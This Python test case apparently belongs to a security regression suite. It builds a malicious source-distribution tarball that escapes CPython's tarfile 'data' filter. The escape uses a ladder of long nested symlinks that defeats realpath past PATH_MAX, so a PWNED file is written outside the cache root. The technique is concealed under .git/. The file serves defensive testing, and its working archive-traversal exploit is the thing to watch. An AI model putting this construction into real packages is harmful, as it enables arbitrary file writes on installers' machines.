"""B: an sdist whose tar escapes the ``data`` filter (the CPython CVE-2025-4517 class, fixed in 3.11.13).

``os.path.realpath`` stops resolving once a path passes PATH_MAX, the kernel does not: 16 nested 240-character
folders, each reachable through a one-letter symlink, a symlink whose real path is over PATH_MAX, then
``escape -> a/b/.../p/lll.../../..(x17)/<outside>`` and a regular file ``escape/PWNED``. All under
``NAME-1.0/.git/``, which the copy into the repository skips, so before the fixes ``prepare_repo`` succeeded
quietly with the file written outside the cache root (Python 3.11.7 here)."""

from __future__ import annotations

import io
import os
import tarfile

import common

case = common.Case("B.tar_filter_bypass")
tree = case.tree("tarescape")
component, steps = "d" * 240, "abcdefghijklmnop"
with tarfile.open(case.links / "tarescape-1.0.tar.gz", "w:gz", format=tarfile.PAX_FORMAT) as tar:
    tar.add(tree, arcname=tree.name)
    top = os.path.join(tree.name, ".git")
    common.add_symlink_ladder(tar, top, steps, component)  # top/a -> d..d, top/d..d/b -> d..d, ...
    link = tarfile.TarInfo(os.path.join(top, *steps, "l" * 254))  # its realpath() is over PATH_MAX: left unresolved
    link.type, link.linkname = tarfile.SYMTYPE, "../" * len(steps)
    tar.addfile(link)
    escape = tarfile.TarInfo(os.path.join(top, "escape"))
    escape.type = tarfile.SYMTYPE
    escape.linkname = os.path.join(*steps, "l" * 254) + "/.." * 17 + str(case.outside)  # for the kernel: outside
    tar.addfile(escape)
    body = b"written outside the cache root by the sdist's archive\n"
    pwned = tarfile.TarInfo(os.path.join(top, "escape", "PWNED"))
    pwned.size, pwned.mode = len(body), 0o644
    tar.addfile(pwned, io.BytesIO(body))


def judge(result) -> str:
    return f"contained: accepted, nothing outside the cache root; repository: {common.repo_entries(result[1])}"


case.run(common.prepare("tarescape==1.0", case), deadline=common.UNPACK_SECONDS + 60, judge=judge)
